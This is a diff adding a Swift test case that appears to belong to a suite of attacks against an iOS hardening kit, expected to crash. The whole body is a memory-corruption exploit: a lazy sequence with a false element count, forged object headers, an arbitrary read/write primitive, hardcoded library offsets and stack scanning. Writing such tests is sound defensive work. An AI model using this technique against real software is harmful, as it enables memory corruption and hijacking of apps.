@@ -1,0 +1,57 @@
+// Attack: copies a lazy list of more elements than there are addresses, and takes the claim back on the stack while the elements are copied.
+// Exercise: 3
+// Expect: crashed
+// Held by: the kit copies what a sequence has, and not what it claims
+import UIKit
+
+final class Head { var count = Int.max, capacity = Int.max }
+final class Holder { var p = 1, q = 2; var list: [Int] = [] }
+let claim = 1 << 61
+enum Mem {
+    nonisolated(unsafe) static let head = Head()
+    nonisolated(unsafe) static var holders: [Holder?] = []
+    nonisolated(unsafe) static var words: [Int] = []
+    nonisolated(unsafe) static var at = -1
+    nonisolated(unsafe) static var base: UInt = 0
+    static func begin() {
+        for _ in 0..<2_000 { holders.append(Holder()) }
+        words = [0, 0x31, Int(bitPattern: ObjectIdentifier(Holder.self)), 3, 1, 2, Int(bitPattern: ObjectIdentifier(head))]
+        let claims = (0..<claim).lazy.map { i in
+            if i == words.count { [1].forEach { _ in [1].forEach { _ in Mem.takeBack() } } }
+            return i < words.count ? words[i] : 0
+        }
+        for i in stride(from: 1_800, to: 1_990, by: 10) { holders[i] = nil }
+        print(Array(claims).count)
+    }
+    static func takeBack() {
+        for i in holders.indices where holders[i]?.list.count == Int.max { at = i }
+        guard base == 0 else { return }
+        base = UInt(bitPattern: ObjectIdentifier(head)) &+ 32
+        let library = UInt(bitPattern: Mem[UInt(bitPattern: ObjectIdentifier(UIView.self)) &- 0xCE30]) &- 0xF8340
+        var place = UInt(bitPattern: Mem[library &+ 0x1DB320]) & ~7 // environ, above all frames
+        for _ in 0..<8_000 {
+            let word = Mem[place]
+            if word == claim { Mem[place] = words.count + 1 } else if word < claim, word > claim - 20 { Mem[place] = 1 }
+            place -= 8
+        }
+    }
+    static subscript(a: UInt) -> Int {
+        get { holders[at]!.list[Int((a &- base) >> 3)] }
+        set { holders[at]!.list[Int((a &- base) >> 3)] = newValue }
+    }
+}
+class BaseView: UIView {
+    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x23320
+    static var old = 0
+    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
+        if Mem.base == 0 { Mem.begin() }
+        BaseView.old = Mem[BaseView.kinds]
+        Mem[BaseView.kinds] = 0
+        defer { Mem[BaseView.kinds] = BaseView.old }
+        return super.hitTest(point, with: event)
+    }
+    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
+        Mem[BaseView.kinds] = BaseView.old
+        return super.point(inside: point, with: event)
+    }
+}
